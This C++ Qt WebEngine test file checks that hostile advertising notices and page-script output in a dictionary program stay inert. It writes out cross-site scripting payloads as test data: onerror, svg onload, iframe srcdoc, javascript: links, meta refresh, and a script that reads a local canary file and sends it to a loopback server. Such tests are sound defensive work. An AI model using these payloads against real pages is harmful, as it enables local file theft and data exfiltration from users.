// What arrives from the network shows text, formatting, pictures and links in the real
// dictionary page, and reaches nothing else: a hostile notice fetched by the notice worker from a
// server on 127.0.0.1, and what the publisher's page script writes, read no local file, send
// nothing to the server, trigger no event of the page and do not move the page elsewhere.
#include <QSignalSpy>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <fstream>

#include "browser_recorder.h"
#include "loopback_server.h"
#include "online/notice_worker.h"
#include "page_test_support.h"
#include "pagehost/program_scheme.h"
#include "platform/ansi_text.h"
#include "settings/notice_state.h"
#include "settings/startup_settings.h"
#include "temp_dir.h"

namespace {

// A one-pixel GIF.
const QByteArray kPixel =
    QByteArray::fromBase64("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");

class NoticeIsolationTest : public DictPageTest {
protected:
    void SetUp() override {
        DictPageTest::SetUp();
        std::ofstream(m_folder / "canary.txt") << "CANARY-7319";
        m_server.Serve("/picture.gif", kPixel);
    }

    // Script that, should it ever run, reads the canary file, reports it and that it ran to
    // the server, and clicks the page's cancel and close elements.
    QString Payload() const {
        return QStringLiteral(
                   "fetch('file://%1').then(r => r.text()).then(t => {"
                   " new Image().src = '%2?d=' + t; });"
                   "new Image().src = '%3';"
                   "for (const id of ['ButtonCancel', 'BUTTON_CLOSE']) {"
                   " const e = document.getElementById(id); if (e) e.click(); }")
            .arg(QString::fromStdString((m_folder / "canary.txt").string()),
                 m_server.Address("/steal"), m_server.Address("/ran"));
    }

    // The request lines the server received, but for those in allowed.
    std::vector<std::string> UnexpectedRequests(std::initializer_list<const char*> allowed) const {
        std::vector<std::string> unexpected;
        for (const QByteArray& head : m_server.requests) {
            const QByteArray line = head.left(head.indexOf("\r\n"));
            const bool fine = std::any_of(allowed.begin(), allowed.end(), [&](const char* path) {
                return line.startsWith(QByteArray("GET ") + path);
            });
            if (!fine) unexpected.push_back(line.toStdString());
        }
        return unexpected;
    }

    // Whether the page is still the program's own, shown and not closed.
    void ExpectPageUntouched(const QSignalSpy& closed) {
        EXPECT_EQ(m_page->GetBrowser()->page()->url(),
                  ProgramPageUrl(CDictViewPage::kHtmlResourceId));
        EXPECT_TRUE(m_page->isVisible()) << "the cancel element was clicked";
        EXPECT_EQ(closed.count(), 0) << "the close element was clicked";
    }

    TempDir m_folder;
    LoopbackServer m_server;
    BrowserRecorder m_browser;
};

TEST_F(NoticeIsolationTest, HostileNoticeShowsItsTextAndReachesNothing) {
    const QString payload = Payload();
    const QString notice = QStringLiteral(
                               "LUMA_AD LUMA_POWERAD <b title=bold>新款面料到货</b>"
                               "<img src=missing.gif onerror=\"%1\">"
                               "<svg onload=\"%1\"><circle r=1></circle></svg>"
                               "<iframe srcdoc=\"&lt;script&gt;%1&lt;/script&gt;\"></iframe>"
                               "<script>%1</script>"
                               "<img title=picture src=\"%2\">"
                               "<a title=jslink href=\"javascript:%1\">试试</a> "
                               "<a title=weblink href=\"%3\" target=_blank>详情</a>"
                               "<meta http-equiv=refresh content=\"0;url=%4\">"
                               "<button id=ButtonCancel>x</button><a id=BUTTON_CLOSE>y</a>")
                               .arg(payload, m_server.Address("/picture.gif"),
                                    m_server.Address("/clicked"), m_server.Address("/refresh"));
    m_server.Serve("/notice.aspx", QByteArray::fromStdString(ToAnsi(notice)));
    RunNoticePass(TheStartupSettings(), m_server.Address("/notice.aspx").toStdString(),
                  (m_folder / "Ad1234.exe").string());
    ASSERT_EQ(showNoticeInPage.load(), 1);

    CreatePage(nullptr);
    QSignalSpy closed(&m_host, &QDialog::finished);
    // The text, the formatting and the picture from the network are there.
    ASSERT_TRUE(WaitFor([this] {
        return Eval(
                   "(function () { const p = document.querySelector('[title=picture]');"
                   "  return p !== null && p.complete && p.naturalWidth === 1; })()")
            .toBool();
    })) << CellHtml().toStdString();
    EXPECT_EQ(Eval("document.querySelector('[title=bold]').textContent").toString(),
              "新款面料到货");
    EXPECT_TRUE(CellHtml().contains("LUMA_AD LUMA_POWERAD"));
    // The user's clicks: the web link opens in the desktop's browser, the script link is nothing.
    Click("[title=weblink]");
    Click("[title=jslink]");
    ASSERT_TRUE(WaitFor([this] { return !m_browser.opened.empty(); }));
    EXPECT_EQ(m_browser.opened[0], QUrl(m_server.Address("/clicked")));
    // The notice follows the results too, as inert there.
    Search("shirt");
    WaitFor([] { return false; }, 500);  // time for anything the page was made to send

    EXPECT_TRUE(
        Eval("document.querySelector('#TD_DICT_ITEM table ~ [data-network-html] [title=bold]')"
             " !== null")
            .toBool());
    EXPECT_EQ(Eval("document.querySelectorAll('#TD_DICT_ITEM :is(iframe, svg, script, meta)')"
                   ".length")
                  .toInt(),
              0);
    EXPECT_EQ(UnexpectedRequests({"/notice.aspx", "/picture.gif"}), std::vector<std::string>());
    ExpectPageUntouched(closed);
}

TEST_F(NoticeIsolationTest, WhatThePublishersScriptWritesCannotRunOrMoveThePage) {
    // The page script runs in the page's own world, as the script from the publisher's host
    // does; what it writes into the page gets no script rights of its own, its made-up clicks
    // reach no handler, and it cannot send the page elsewhere.
    const QString script =
        QStringLiteral(
            "document.getElementById('TD_DICT_ITEM').insertAdjacentHTML('beforeend',"
            " '<span id=scriptwrote>广告</span>"
            "<img src=missing.gif onerror=\"%1\"><button id=ButtonCancel>x</button>');"
            "document.getElementById('BUTTON_GO').click();"
            "document.getElementById('ButtonCancel').click();"
            "setTimeout(function () { location.href = '%2'; }, 0); 0")
            .arg(Payload().replace('\'', '"').replace("\"", "&quot;"), m_server.Address("/away"));
    QSignalSpy closed(&m_host, &QDialog::finished);
    Eval(script);
    ASSERT_TRUE(WaitFor(
        [this] { return Eval("document.getElementById('scriptwrote') !== null").toBool(); }));
    WaitFor([] { return false; }, 500);

    EXPECT_TRUE(Page().GetResults().empty()) << "the made-up GO click searched";
    EXPECT_EQ(UnexpectedRequests({"/picture.gif"}), std::vector<std::string>());
    ExpectPageUntouched(closed);
}

}  // namespace
